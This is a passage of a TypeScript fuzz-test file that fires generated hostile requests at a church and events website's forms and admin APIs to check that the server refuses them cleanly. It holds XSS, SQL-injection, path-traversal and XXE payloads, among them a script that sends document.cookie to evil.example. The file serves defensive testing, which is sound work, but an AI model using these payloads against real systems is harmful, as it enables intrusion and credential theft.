// Hostile input (issue: hostile input). Every route with an action, read from the real server build,
// and every admin API that changes data, is fed generated junk by fast-check with a fixed seed (a
// failure replays): random subsets of the real fields with odd unicode, HTML, SQL, numbers, 1 MB
// strings and invalid UTF-8, duplicated and unknown fields, random intents, wrong content types,
// broken multipart, empty and oversized bodies, other methods, cross-site posts. The server must
// never answer 5xx; when it refuses, it says why (4xx with a message, or for plain admin posts a
// redirect with an error toast); it never redirects off the site; and the site still works after.
// Then deterministic checks: stored HTML comes back inert, SQL-looking text is stored verbatim.
import { env } from "cloudflare:workers";
import fc from "fast-check";
import * as serverBuild from "virtual:react-router/server-build";
import { beforeEach, describe, expect, it } from "vitest";
import { fieldNames } from "~/lib/schema-fields";
import { HONEYPOT_FIELD } from "~/lib/bot-check";
import { IMAGE_BUCKETS } from "~/features/images/images";
import { addAccountSchema, changePasswordSchema, manageAccountSchema } from "~/features/accounts/account-forms";
import { blogSchema } from "~/features/publishing/blog-form";
import { contactSchema } from "~/features/messaging/contact-form";
import { deskRegistrationSchema, OPENED_AT } from "~/features/events/desk-registration-form";
import { BURST_FIELDS } from "~/features/events/registration-bursts";
import { eventSchema } from "~/features/events/event-form";
import { leadershipSchema } from "~/features/publishing/leadership-form";
import { loginSchema } from "~/features/accounts/login-form";
import { requireTwoStepSchema, secondStepSchema, turnOnTwoStepSchema } from "~/features/accounts/two-step-form";
import { newsletterSchema } from "~/features/messaging/newsletter-form";
import { ministrySchema } from "~/features/publishing/ministry-form";
import { registrationSchema } from "~/features/events/registration-form";
import { CORRECT_INTENT, groupSchema } from "~/features/events/group-form";
import { linkAgainSchema } from "~/features/events/registration-link";
import { subscribeSchema } from "~/features/messaging/subscribe-form";
import { testimonySchema } from "~/features/publishing/testimony-form";
import { associationSchema } from "~/features/associations/association-form";
import { SECTION_SCHEMAS } from "~/features/settings/settings-forms";
import { api } from "../../workers/api";
import { fixtureBytes } from "../fixtures/images";
import { createAdmin, ORIGIN, postForm, request, seedDemo, signIn, TEST_ADMIN, toastOf } from "./helpers";

const SEED = 20261122;
const RUNS = 30;

// ---------------------------------------------------------------------------------------------
// What is attacked: each route with an action (from the server build) and each admin API mutation.

type Target = {
  fields: readonly string[];
  intents?: readonly string[];
  /** The values of a settings form's `section` field. */
  sections?: readonly string[];
  admin: boolean;
  /** Sign-out answers the same whatever the body says, so it has nothing to refuse. */
  ignoresBody?: boolean;
  /** The image API: JSON answers, file fields. */
  api?: boolean;
};

const unique = (...lists: (readonly string[])[]) => [...new Set(lists.flat())];
const IMAGE_FIELDS = ["image_file", "image_remove", "image_sample", "image_url", "image_alt"];
const ENTITY_INTENTS = ["save", "delete", "toggle-active"];
const entity = (schemaFields: string[]): Target => ({
  admin: true,
  fields: unique(schemaFields, IMAGE_FIELDS, ["intent"]),
  intents: ENTITY_INTENTS,
});
/** A record that keeps its history: its form also carries its version, and may restore one (issue 15). */
const entityWithHistory = (schemaFields: string[]): Target => ({
  admin: true,
  fields: unique(schemaFields, IMAGE_FIELDS, ["intent", "version"]),
  intents: [...ENTITY_INTENTS, "restore"],
});
const registration: Target = { admin: false, fields: unique(fieldNames(registrationSchema), [HONEYPOT_FIELD]) };
const contact: Target = { admin: false, fields: unique(fieldNames(contactSchema), [HONEYPOT_FIELD]) };

/** A settings page: one form per section, told apart by `section`; list entries and conform's list buttons (`__intent__`). */
const settingsPage = (sections: (keyof typeof SECTION_SCHEMAS)[]): Target => ({
  admin: true,
  fields: unique(
    ...sections.map((section) => fieldNames(SECTION_SCHEMAS[section])),
    ["section", "version", "intent", "__intent__", "verses[0].text", "verses[1].reference", "testimonials[0].quote", "history[0].period", "core_values[0].text"],
    IMAGE_FIELDS,
  ),
  sections,
  intents: ["save", "restore"],
});

/** Keyed by route id; the test below fails when a route gains an action that is not listed here. */
const ACTION_TARGETS: Record<string, Target> = {
  "routes/public/events": registration,
  "routes/public/event": registration,
  "routes/public/event-register": registration,
  "routes/public/event-group": {
    admin: false,
    fields: unique(fieldNames(groupSchema), [HONEYPOT_FIELD, "men[0].full_name", "men[0].phone_number", "men[1].phone_number"]),
    intents: ["more-lines", "register"],
  },
  "routes/public/group-private-page": {
    admin: false,
    fields: ["intent", "registration_id", OPENED_AT, "full_name", "phone_number"],
    intents: ["cancel", "cancel-all", CORRECT_INTENT],
  },
  "routes/public/event-my-link": { admin: false, fields: unique(fieldNames(linkAgainSchema), [HONEYPOT_FIELD]) },
  "routes/public/contact": contact,
  "routes/public/subscribe": { admin: false, fields: unique(fieldNames(subscribeSchema), [HONEYPOT_FIELD]) },
  "routes/auth/login": { admin: false, fields: fieldNames(loginSchema) },
  "routes/auth/logout": { admin: false, fields: ["intent"], ignoresBody: true },
  "admin-leadership-new": entity(fieldNames(leadershipSchema(null))),
  "admin-leadership-edit": entity(fieldNames(leadershipSchema(null))),
  "admin-ministries-new": entityWithHistory(fieldNames(ministrySchema)),
  "admin-ministries-edit": entityWithHistory(fieldNames(ministrySchema)),
  "admin-blogs-new": entityWithHistory(fieldNames(blogSchema)),
  "admin-blogs-edit": entityWithHistory(fieldNames(blogSchema)),
  "admin-testimonies-new": entity(fieldNames(testimonySchema)),
  "admin-testimonies-edit": entity(fieldNames(testimonySchema)),
  "admin-associations-new": entity(fieldNames(associationSchema)),
  "admin-associations-edit": entity(fieldNames(associationSchema)),
  // The CSV import: a file, or pasted rows.
  "routes/admin/associations/association-import": { admin: true, fields: ["file", "csv"] },
  "admin-events-new": entity(fieldNames(eventSchema)),
  "admin-events-edit": entity(fieldNames(eventSchema)),
  "routes/admin/settings/settings-page": settingsPage(["organisation", "contact", "social", "hero", "conference", "registrations"]),
  "routes/admin/settings/pages-page": settingsPage(["about", "mission"]),
  "routes/admin/messages": { admin: true, fields: ["id", "intent"], intents: ["mark-read", "mark-unread", "delete"] },
  // The dashboard's one form: dismissing a registration burst's alert.
  "routes/admin/dashboard": { admin: true, fields: ["intent", "burst_id"], intents: ["dismiss-burst"] },
  "routes/public/give": { admin: false, fields: ["amount", "fund", "phone_number", "operator", "donor_name", "email", "anonymous"] },
  "routes/public/registration-private-page": { admin: false, fields: ["intent", "phone_number", "operator"], intents: ["pay"] },
  "routes/admin/events/registration-desk": {
    admin: true,
    fields: unique(fieldNames(deskRegistrationSchema), ["intent", "registration_id", "amount", "receipt_number"], Object.values(BURST_FIELDS), ["previewed"]),
    intents: ["add", "cancel", "restore", "promote", "promote-over", "told", "record-cash", "waive-fee", "record-refund", "burst-preview", "burst-cancel"],
  },
  "routes/admin/events/check-in": {
    admin: true,
    fields: unique(fieldNames(deskRegistrationSchema), ["intent", "registration_id", "amount", "receipt_number"]),
    intents: ["checkin", "admit", "undo", "walk-in", "record-cash"],
  },
  "routes/admin/subscribers": { admin: true, fields: ["id", "intent"], intents: ["remove"] },
  "routes/admin/newsletter/composer": { admin: true, fields: unique(fieldNames(newsletterSchema), ["intent"]), intents: ["preview", "test", "send"] },
  "routes/admin/outbox/outbox-message": { admin: true, fields: ["intent"], intents: ["retry"] },
  "routes/admin/events/event-message": { admin: true, fields: ["audience", "channel", "body", "urgent", "send_key", "send_again", "intent"], intents: ["preview", "send"] },
  // The e-mail links' buttons (and mail providers' one-click unsubscribe) act on the token in the address.
  "routes/public/newsletter-confirm": { admin: false, fields: ["List-Unsubscribe"], ignoresBody: true },
  "routes/public/newsletter-unsubscribe": { admin: false, fields: ["List-Unsubscribe"], ignoresBody: true },
  "routes/admin/account": {
    admin: true,
    fields: unique(fieldNames(changePasswordSchema), fieldNames(addAccountSchema), fieldNames(manageAccountSchema), ["intent"]),
    intents: ["change-password", "add-account", "change-role", "remove-account"],
  },
  "routes/auth/two-step": { admin: false, fields: fieldNames(secondStepSchema) },
  "routes/admin/account/two-step": {
    admin: true,
    fields: unique(fieldNames(turnOnTwoStepSchema), fieldNames(requireTwoStepSchema), ["intent"]),
    intents: ["turn-on", "turn-off", "new-codes", "require"],
  },
  "routes/admin/account/sessions": { admin: true, fields: ["intent", "session", "account"], intents: ["end-session", "end-others", "end-account"] },
  // Discards the form kept for this browser (none here).
  "routes/admin/account/unsaved": { admin: true, fields: ["intent"], intents: ["discard"] },
};

const API_TARGETS: Record<string, Target> = {
  // The public forms' JSON endpoints, which the islands script posts to.
  "POST /api/registrations": { ...registration, api: true },
  "POST /api/contact-messages": { ...contact, api: true },
  "POST /api/admin/images": { admin: true, api: true, fields: ["kind", "name", "w480", "w960", "w1600", "w0", "w99999", "share"] },
  "POST /api/admin/events/:id/check-in": { admin: true, api: true, fields: ["intent", "registration_id"], intents: ["checkin", "admit", "undo"] },
  // PayChangu's webhook (a bad signature: 401), and the local simulator's Approve and Decline (no body read).
  "POST /api/payments/webhook": { admin: false, api: true, fields: ["charge_id", "tx_ref", "status", "amount", "currency"] },
  "POST /api/payments/simulator/:chargeId/approve": { admin: false, api: true, fields: ["return"], ignoresBody: true },
  "POST /api/payments/simulator/:chargeId/decline": { admin: false, api: true, fields: ["return"], ignoresBody: true },
  // The SMS provider's signed delivery reports (not a form): anything unsigned is a 401 (or 404 while SMS is not set up).
  "POST /api/sms/status": { admin: false, api: true, fields: ["MessageSid", "MessageStatus", "ErrorCode"] },
  // The door's queue, sent as JSON: a form or multipart body is unreadable (400).
  "POST /api/admin/events/:id/door-actions": { admin: true, api: true, fields: ["actions"] },
};

type BuildRoute = { id: string; path?: string; parentId?: string; module: { action?: unknown } };
const buildRoutes = serverBuild.routes as unknown as Record<string, BuildRoute>;

function fullPath(route: BuildRoute): string {
  const parts: string[] = [];
  for (let r: BuildRoute | undefined = route; r; r = r.parentId ? buildRoutes[r.parentId] : undefined) {
    if (r.path) parts.unshift(r.path);
  }
  return `/${parts.join("/")}`;
}

const actionRoutes = Object.values(buildRoutes)
  .filter((route) => typeof route.module.action === "function")
  .map((route) => ({ id: route.id, pattern: fullPath(route) }));

// A route with its own middleware (a body limit) is listed once for each handler: counted once.
const apiMutations = [
  ...new Set(
    api.routes.filter((r) => !["GET", "HEAD", "ALL"].includes(r.method)).map((r) => `${r.method} /api${r.path.replace(/\/$/, "")}`),
  ),
];

type Attacked = { name: string; pattern: string; target: Target };
const attacked: Attacked[] = [
  ...actionRoutes.map(({ id, pattern }) => ({ name: `${id} (${pattern})`, pattern, target: ACTION_TARGETS[id]! })),
  ...Object.entries(API_TARGETS).map(([name, target]) => ({ name, pattern: name.split(" ")[1]!, target })),
];

// ---------------------------------------------------------------------------------------------
// Hostile values.

const MB = 1024 * 1024;
const HTML_PAYLOADS = [
  `<script>alert("xss")</script>`,
  `"><img src=x onerror=alert(1)>`,
  `'><svg/onload=alert(document.cookie)>`,
  `</textarea><script>fetch('//evil.example/'+document.cookie)</script>`,
  `<a href="javascript:alert(1)">click</a>`,
  `{{constructor.constructor('alert(1)')()}}`,
  `<!--#exec cmd="ls"-->`,
];
const SQL_PAYLOADS = [
  `' OR '1'='1`,
  `1; DROP TABLE churchevents; --`,
  `" UNION SELECT password_hash FROM admin_users --`,
  `1' AND SLEEP(5)#`,
  `admin'--`,
  `%' OR 1=1 --`,
  `'); DELETE FROM ministries; --`,
];
const ODD_UNICODE = [
  "\uD800", "\uDFFF", "a\uDC00b", "\uD83D", // lone surrogates
  "\u202Eevil\u202C", "\u200B", "\u200D", "\uFEFF", "\u2028", "\u00AD", // bidi, zero-width, separators
  "\u0000", "a\u0000b", "\r\n", "\t", "\u001B[31m",
  "👨‍👩‍👧‍👦", "🇲🇼", "🙏🏿", "𝕭𝖆𝖕𝖙𝖎𝖘𝖙", "e\u0301\u0301\u0301\u0301", "ﷺ", "ᐊᓕᒍᖅ", "مرحبا",
];
const NUMBERS = ["0", "-1", "-0", "NaN", "Infinity", "1e309", "0x10", "9007199254740993", "99999999999999999999", "1.5", "٣"];
const BIG_LENGTHS = [MB, 64 * 1024 + 1, 50_001, 5_001, 256];

const codeUnit = fc.integer({ min: 0, max: 0xffff }).map((n) => String.fromCharCode(n));
const bigString = fc.tuple(fc.constantFrom(...BIG_LENGTHS), fc.constantFrom("A", "é", "<", "'", "𝕭")).map(([n, c]) => c.repeat(Math.ceil(n / c.length)));
const smallHostile = fc.oneof(
  fc.string({ maxLength: 30 }),
  fc.string({ unit: "binary", maxLength: 30 }),
  fc.string({ unit: "grapheme", maxLength: 20 }),
  fc.string({ unit: codeUnit, maxLength: 20 }),
  fc.constantFrom(...ODD_UNICODE),
  fc.constantFrom(...HTML_PAYLOADS),
  fc.constantFrom(...SQL_PAYLOADS),
  fc.constantFrom(...NUMBERS),
  fc.oneof(fc.integer(), fc.double(), fc.bigInt()).map(String),
);
const hostileText: fc.Arbitrary<string> = fc.oneof(
  { weight: 8, arbitrary: smallHostile },
  { weight: 3, arbitrary: fc.array(smallHostile, { minLength: 2, maxLength: 4 }).map((parts) => parts.join("")) },
  { weight: 1, arbitrary: bigString },
);
/** Bytes that are not valid UTF-8: overlong, surrogates encoded, truncated, stray continuation. */
const invalidUtf8 = fc.constantFrom(
  Uint8Array.of(0xff, 0xfe),
  Uint8Array.of(0xed, 0xa0, 0x80),
  Uint8Array.of(0xc0, 0xaf),
  Uint8Array.of(0x61, 0xe2, 0x82),
  Uint8Array.of(0x80, 0x80, 0x41),
);

const SAMPLE_PASSWORD = "another-long-password";
/** Values that pass some checks, so the generated requests also reach storage and deeper code. */
const PLAUSIBLE: Record<string, readonly string[]> = {
  email: ["visitor@example.mw", "O'Brien+news@Example.ORG", ` ${TEST_ADMIN.email} `, "new.admin@example.mw", ""],
  password: [TEST_ADMIN.password, SAMPLE_PASSWORD, "short", ""],
  current_password: ["not-the-password", ""],
  new_password: [SAMPLE_PASSWORD, "short"],
  confirm_password: [SAMPLE_PASSWORD, "different-password"],
  full_name: ["Kondwani Phiri", "Chikondi O'Neil"],
  phone_number: ["+265 991 555 010", "(0888) 123-456"],
  phone: ["+265 991 555 010", ""],
  event_id: ["1", "2", "3", "6", "999", "0"],
  subject: ["Visiting our church"],
  message: ["Please come and visit our men's group next month."],
  date: ["2027-03-05T09:30", "2027-03-05", "2027-02-30", "2027-03-05 09:30", ""],
  sort_order: ["0", "-5", "999999"],
  position_id: ["1", "8", "99", ""],
  category_id: ["", "1", "99"],
  region: ["Northern", ""],
  active: ["on", "1", "true", "off"],
  registration_enabled: ["on", "off"],
  waitlist_enabled: ["on", "off"],
  capacity: ["", "1", "300", "0", "-1", "2.5"],
  registration_closes_at: ["2027-03-04T18:00", ""],
  registration_id: ["1", "2", "4", "999", "0"],
  shared_phone: ["on", "off"],
  over_capacity: ["on", "off"],
  request_id: ["0123456789abcdef0123456789abcdef", "short"],
  slug_auto: ["on", "off"],
  slug: ["youth-mentorship", "a-new-slug", "Not A Slug", ""],
  title: ["Men of Prayer"],
  name: ["Prayer Breakfast", "photo.jpg"],
  author: ["Yamikani Nkhoma"],
  content: ["God renewed my family through this ministry."],
  excerpt: ["A short summary."],
  short_description: ["Short."],
  full_description: ["Long description.\n\nSecond paragraph."],
  image_remove: ["1", "0"],
  image_sample: ["/media/events/sample-1-1600w.webp", "/images/event-images/../../etc/passwd", "https://evil.example/x.png"],
  image_url: ["/images/event-images/abc-1600w.webp", "//evil.example/x.png", "javascript:alert(1)"],
  id: ["1", "2", "0", "-1", "999999999", "1e3"],
  kind: Object.keys(IMAGE_BUCKETS),
  version: ["0", "1", "2", "-1", "x"],
  status: ["published", "draft", "scheduled", "archived", ""],
  publish_at: ["2099-12-07T06:00", "2020-01-01T06:00", "2099-12-07T06:00:30", "2025-13-45T99:99", ""],
  conference_mode: ["auto", "event", "custom", "hidden", "sometimes"],
  conference_event_id: ["", "1", "99"],
  starts_at: ["2027-06-10T08:00", "2025-13-45T99:99", ""],
  facebook_url: ["https://www.facebook.com/baptistmen", "javascript:alert(1)", "http://example.org"],
  map_latitude: ["-13.96", "91", "abc"],
  __intent__: ['{"type":"insert","payload":{"name":"verses"}}', '{"type":"remove","payload":{"name":"verses","index":0}}', "{not json", '{"type":"reorder","payload":{"name":"verses","from":0,"to":5}}'],
};

type Value = string | Uint8Array | { file: Uint8Array; name: string; type: string };

const fileNames = fc.constantFrom("photo.png", "../../etc/passwd", "<img src=x onerror=alert(1)>.png", "a\u0000.png", "😀.gif", "");
const fileBytes = fc.oneof(
  fc.uint8Array({ maxLength: 64 }),
  fc.constantFrom(fixtureBytes("png"), fixtureBytes("gif"), fixtureBytes("jpeg"), fixtureBytes("webp")),
  fc.constant(new TextEncoder().encode(`<svg xmlns="http://www.w3.org/2000/svg" onload="alert(1)"/>`)),
  fc.constant(Uint8Array.of(0x89, 0x50, 0x4e, 0x47, 0x0d, 0x0a, 0x1a, 0x0a, 0x3c, 0x73)), // a PNG header, then junk
  fc.constant(Uint8Array.of(0xff, 0xd8, 0xff, 0xc0, 0x00, 0x11, 0x08, 0x02, 0x76)), // a JPEG frame header cut short
);
const fileValue = fc.record({ file: fileBytes, name: fileNames, type: fc.constantFrom("image/png", "text/html", "application/octet-stream", "") });

function valueFor(target: Target, field: string): fc.Arbitrary<Value> {
  const plausible =
    field === "intent"
      ? [...(target.intents ?? []), "save"]
      : field === "section"
        ? [...(target.sections ?? []), "nonsense"]
        : Object.hasOwn(PLAUSIBLE, field)
          ? PLAUSIBLE[field]!
          : [];
  const options: fc.WeightedArbitrary<Value>[] = [
    { weight: 4, arbitrary: hostileText },
    { weight: 1, arbitrary: invalidUtf8 },
  ];
  if (plausible.length) options.push({ weight: 4, arbitrary: fc.constantFrom(...plausible) });
  if (field === "image_file" || field === "share" || /^w\d+$/.test(field)) options.push({ weight: 4, arbitrary: fileValue });
  return fc.oneof(...options);
}

// ---------------------------------------------------------------------------------------------
// Hostile requests.

type Hostile = {
  kind: string;
  method: string;
  path: string;
  headers: Record<string, string>;
  body: Uint8Array<ArrayBuffer> | ReadableStream<Uint8Array> | null;
  /** Nothing in it can be accepted: the server must refuse it (not just avoid a 5xx). */
  mustRefuse: boolean;
  summary: string;
};

const encoder = new TextEncoder();
const bytesOf = (value: string | Uint8Array) => (typeof value === "string" ? encoder.encode(value) : value);

function concat(parts: Uint8Array[]): Uint8Array<ArrayBuffer> {
  const out = new Uint8Array(parts.reduce((n, p) => n + p.byteLength, 0));
  let offset = 0;
  for (const part of parts) {
    out.set(part, offset);
    offset += part.byteLength;
  }
  return out;
}

/** application/x-www-form-urlencoded by hand, so invalid UTF-8 and lone surrogates go out as they are. */
function urlEncoded(pairs: [string, Value][]): Uint8Array<ArrayBuffer> {
  const escape = (value: string | Uint8Array) =>
    Array.from(bytesOf(value), (b) => (/[A-Za-z0-9*\-._]/.test(String.fromCharCode(b)) ? String.fromCharCode(b) : `%${b.toString(16).padStart(2, "0").toUpperCase()}`)).join("");
  return encoder.encode(pairs.map(([name, value]) => `${escape(name)}=${escape(typeof value === "object" && "file" in value ? value.file : value)}`).join("&"));
}

/** multipart/form-data by hand, so bodies can be raw bytes, truncated or mislabelled. */
function multipart(pairs: [string, Value][], boundary: string): Uint8Array<ArrayBuffer> {
  const parts: Uint8Array[] = [];
  for (const [name, value] of pairs) {
    const quoted = name.replace(/["\r\n]/g, "_");
    if (typeof value === "object" && "file" in value) {
      parts.push(encoder.encode(`--${boundary}\r\nContent-Disposition: form-data; name="${quoted}"; filename="${value.name.replace(/["\r\n]/g, "_")}"\r\n${value.type ? `Content-Type: ${value.type}\r\n` : ""}\r\n`));
      parts.push(value.file, encoder.encode("\r\n"));
    } else {
      parts.push(encoder.encode(`--${boundary}\r\nContent-Disposition: form-data; name="${quoted}"\r\n\r\n`), bytesOf(value), encoder.encode("\r\n"));
    }
  }
  parts.push(encoder.encode(`--${boundary}--\r\n`));
  return concat(parts);
}

const preview = (body: Uint8Array | ReadableStream | null) => {
  if (!body) return "(no body)";
  if (body instanceof ReadableStream) return "(a streamed body)";
  const text = new TextDecoder().decode(body.subarray(0, 240));
  return `${JSON.stringify(text)}${body.byteLength > 240 ? ` ... (${body.byteLength} bytes)` : ""}`;
};

function hostile(kind: string, method: string, path: string, headers: Record<string, string>, body: Hostile["body"], mustRefuse: boolean): Hostile {
  const summary = `${kind}: ${method} ${path} ${JSON.stringify(headers)} ${preview(body)}`;
  // fast-check prints counterexamples with this, instead of dumping megabytes of body.
  return Object.assign({ kind, method, path, headers, body, mustRefuse, summary }, { [fc.toStringMethod]: () => summary });
}

const HOSTILE_IDS = ["0", "-1", "abc", "1e3", "99999999999", "%FF", "%00", "1%20OR%201=1", "..%2F..%2Fadmin", "%E2%80%AE1", "1;DROP"];

function pathFor(pattern: string): fc.Arbitrary<string> {
  const ids = pattern.startsWith("/events/") ? ["2", "3", "6"] : ["1", "2", "3"];
  const id = fc.oneof({ weight: 4, arbitrary: fc.constantFrom(...ids) }, { weight: 1, arbitrary: fc.constantFrom(...HOSTILE_IDS) });
  const query = fc.oneof(
    { weight: 6, arbitrary: fc.constant("") },
    { weight: 1, arbitrary: fc.constantFrom("?index", "?register=2", "?register=%3Cscript%3E", "?_routes=..%2F..", "?tab=%27%22%3E", "?a=1&a=2") },
  );
  return fc.tuple(id, query).map(([value, search]) => `${pattern.replace(/:[A-Za-z_]+/, value)}${search}`);
}

const SAME_SITE_REFERERS = [`${ORIGIN}/contact`, `${ORIGIN}/events?register=2`, `${ORIGIN}//evil.example/x`, `${ORIGIN}/\\evil.example`, "https://evil.example/", "not a url"];

let nextStreamId = 0;
function limits(target: Target) {
  if (target.api) return 4 * 5 * MB + 64 * 1024;
  return target.admin ? 5 * MB + 256 * 1024 : 64 * 1024;
}

/** Every kind of hostile request for one target. */
function hostileRequest(pattern: string, target: Target): fc.Arbitrary<Hostile> {
  const path = pathFor(pattern);
  const scripted = (p: string, on: boolean) => {
    if (!on || target.api) return p;
    const [pathname, search = ""] = p.split("?");
    return `${pathname}.data${search ? `?${search}` : ""}`;
  };
  const ip = fc.oneof(fc.ipV4(), fc.ipV6(), fc.constant("203.0.113.99"));
  const boundary = fc.stringMatching(/^[A-Za-z0-9'()+_,\-./:=?]{1,40}$/).filter((b) => !b.endsWith(" "));
  const refused = !target.ignoresBody;

  const pairs = fc
    .tuple(
      fc.subarray([...target.fields]),
      fc.array(fc.constantFrom(...target.fields), { maxLength: 3 }), // duplicated fields
      fc.array(fc.oneof(fc.string({ maxLength: 12 }), fc.constantFrom("__proto__", "constructor", "_data", "image_file[]")), { maxLength: 1 }),
    )
    .chain(([subset, duplicates, unknown]) =>
      fc.tuple(...[...subset, ...duplicates, ...unknown].map((name) => fc.tuple(fc.constant(name), valueFor(target, name)))),
    )
    .map((list) => list as [string, Value][]);

  const form = fc
    .record({
      method: fc.oneof({ weight: 4, arbitrary: fc.constant("POST") }, { weight: 1, arbitrary: fc.constantFrom("PUT", "PATCH", "DELETE") }),
      path,
      scripted: fc.boolean(),
      // The image API takes files, so it mostly gets multipart.
      encoding: target.api ? fc.constantFrom("multipart", "multipart", "multipart", "urlencoded") : fc.constantFrom("urlencoded", "multipart"),
      boundary,
      pairs,
      ip,
      referer: fc.option(fc.constantFrom(...SAME_SITE_REFERERS), { nil: undefined }),
      charset: fc.oneof({ weight: 12, arbitrary: fc.constant("") }, { weight: 1, arbitrary: fc.constantFrom("; charset=utf-8", "; charset=iso-8859-1", ' ; charset="utf-16"') }),
    })
    .map((r) => {
      const multi = r.encoding === "multipart";
      const headers: Record<string, string> = {
        "Content-Type": multi ? `multipart/form-data; boundary="${r.boundary}"` : `application/x-www-form-urlencoded${r.charset}`,
        "CF-Connecting-IP": r.ip,
      };
      if (r.referer) headers.Referer = r.referer;
      const body = multi ? multipart(r.pairs, r.boundary) : urlEncoded(r.pairs);
      return hostile("form", r.method, scripted(r.path, r.scripted), headers, body, false);
    });

  const wrongType = fc
    .record({
      path,
      scripted: fc.boolean(),
      type: fc.constantFrom("application/json", "text/plain", "application/xml", "text/xml", "application/x-www-form-urlencodedX", "multipart/mixed", "", "image/png"),
      values: fc.dictionary(fc.constantFrom(...target.fields), fc.oneof(hostileText, fc.integer(), fc.boolean(), fc.constant(null)), { maxKeys: 4 }),
    })
    .map((r) => {
      const body =
        r.type.includes("json") || r.type === ""
          ? JSON.stringify(r.values)
          : r.type.includes("xml")
            ? `<?xml version="1.0"?><!DOCTYPE r [<!ENTITY x SYSTEM "file:///etc/passwd">]><r>${Object.entries(r.values).map(([k, v]) => `<${k}>&x;${String(v)}</${k}>`).join("")}</r>`
              : new URLSearchParams(Object.entries(r.values).map(([k, v]) => [k, String(v)])).toString();
      const headers: Record<string, string> = r.type ? { "Content-Type": r.type } : {};
      return hostile("wrong content type", "POST", scripted(r.path, r.scripted), headers, encoder.encode(body), refused);
    });

  const brokenMultipart = fc
    .record({
      path,
      scripted: fc.boolean(),
      pairs,
      how: fc.constantFrom("truncated", "other boundary", "no boundary", "no parts", "garbage", "unterminated headers"),
      cut: fc.nat(),
    })
    .map((r) => {
      const full = multipart(r.pairs, "RealBoundary");
      const bodies: Record<string, [string, Uint8Array<ArrayBuffer>]> = {
        truncated: ["multipart/form-data; boundary=RealBoundary", full.subarray(0, Math.max(1, r.cut % Math.max(1, full.byteLength - 20)))],
        "other boundary": ["multipart/form-data; boundary=SomethingElse", full],
        "no boundary": ["multipart/form-data", full],
        "no parts": ["multipart/form-data; boundary=RealBoundary", encoder.encode("--RealBoundary--\r\n")],
        garbage: ["multipart/form-data; boundary=RealBoundary", Uint8Array.from({ length: 200 }, (_, i) => (i * 37 + r.cut) % 256)],
        "unterminated headers": ["multipart/form-data; boundary=RealBoundary", encoder.encode(`--RealBoundary\r\nContent-Disposition: form-data; name="${target.fields[0] ?? "x"}"\r\n${"X-Pad: a\r\n".repeat(500)}`)],
      };
      const [type, body] = bodies[r.how]!;
      return hostile(`broken multipart (${r.how})`, "POST", scripted(r.path, r.scripted), { "Content-Type": type }, body, refused);
    });

  const empty = fc
    .record({ path, scripted: fc.boolean(), method: fc.constantFrom("POST", "PUT", "PATCH", "DELETE"), type: fc.constantFrom("application/x-www-form-urlencoded", "multipart/form-data; boundary=x", "") })
    .map((r) => hostile("empty body", r.method, scripted(r.path, r.scripted), r.type ? { "Content-Type": r.type } : {}, null, refused));

  const oversized = fc
    .record({ path, scripted: fc.boolean(), how: fc.constantFrom("declared", "actual", "streamed"), multi: fc.boolean() })
    .map((r) => {
      const limit = limits(target);
      const type = r.multi ? "multipart/form-data; boundary=RealBoundary" : "application/x-www-form-urlencoded";
      const field = target.fields.find((f) => f !== "intent" && !/^w\d/.test(f)) ?? "x";
      const filler = "A".repeat(limit + 1024);
      const large = r.multi ? multipart([[field, filler]], "RealBoundary") : urlEncoded([[field, filler]]);
      if (r.how === "declared") {
        return hostile("oversized (declared)", "POST", scripted(r.path, r.scripted), { "Content-Type": type, "Content-Length": String(limit + 1) }, urlEncoded([[field, "x"]]), refused);
      }
      if (r.how === "actual") return hostile("oversized (actual)", "POST", scripted(r.path, r.scripted), { "Content-Type": type }, large, refused);
      nextStreamId += 1;
      const stream = new ReadableStream<Uint8Array>({
        start(controller) {
          for (let offset = 0; offset < large.byteLength; offset += 256 * 1024) controller.enqueue(large.slice(offset, offset + 256 * 1024));
          controller.close();
        },
      });
      return hostile(`oversized (streamed #${nextStreamId}, no Content-Length)`, "POST", scripted(r.path, r.scripted), { "Content-Type": type }, stream, refused);
    });

  const crossSite = fc
    .record({ path, pairs, how: fc.constantFrom("origin", "fetch-site") })
    .map((r) =>
      hostile(
        `cross-site (${r.how})`,
        "POST",
        r.path,
        r.how === "origin"
          ? { "Content-Type": "application/x-www-form-urlencoded", Origin: "https://evil.example" }
          : { "Content-Type": "application/x-www-form-urlencoded", Origin: "", "Sec-Fetch-Site": "cross-site" },
        urlEncoded(r.pairs),
        true,
      ),
    );

  return fc.oneof(
    { weight: 12, arbitrary: form },
    { weight: 2, arbitrary: wrongType },
    { weight: 2, arbitrary: brokenMultipart },
    { weight: 1, arbitrary: empty },
    { weight: 1, arbitrary: oversized },
    { weight: 1, arbitrary: crossSite },
  );
}

// ---------------------------------------------------------------------------------------------
// Reading the answer: the message it gives, where it redirects, its toast.

/** Resolves React Router's flattened turbo-stream payload (objects and primitives are enough here). */
function unflatten(flat: unknown[]): unknown {
  const seen = new Map<number, unknown>();
  const resolve = (index: number): unknown => {
    if (index < 0) return undefined;
    if (seen.has(index)) return seen.get(index);
    const value = flat[index];
    if (value && typeof value === "object" && !Array.isArray(value)) {
      const out: Record<string, unknown> = {};
      seen.set(index, out);
      for (const [key, ref] of Object.entries(value)) {
        if (key.startsWith("_") && typeof ref === "number") out[String(flat[Number(key.slice(1))])] = resolve(ref);
      }
      return out;
    }
    if (Array.isArray(value)) return value.map((item) => (typeof item === "number" ? resolve(item) : item));
    return value;
  };
  return resolve(0);
}

type Answer = { status: number; message: string | null; location: string | null; toast: Awaited<ReturnType<typeof toastOf>> };

const textOf = (value: unknown): string | null => (typeof value === "string" && value.trim() !== "" ? value : null);

/** The message of a form's answer (app/lib/form-answer.ts): about the whole form, a field's, or its toast. */
function messageIn(answer: unknown): string | null {
  if (!answer || typeof answer !== "object") return null;
  const a = answer as { error?: unknown; result?: { error?: Record<string, unknown[] | null> }; toast?: { description?: unknown; title?: unknown } };
  const errors = Object.values(a.result?.error ?? {}).flatMap((messages) => messages ?? []);
  return textOf(a.error) ?? errors.map(textOf).find(Boolean) ?? textOf(a.toast?.description) ?? textOf(a.toast?.title);
}

/**
 * What a page rendered without scripts says about a refused form: beside a field, in the form's
 * alert, or as its notice; or, on the site's error page (a route error: no form), its heading.
 */
function refusalShownIn(body: string): string | null {
  const main = body.slice(body.indexOf("<main"), body.indexOf("</main>"));
  if (!/<form[\s>]/.test(main)) return /<h1[^>]*>([^<]+)</.exec(main)?.[1] ?? null;
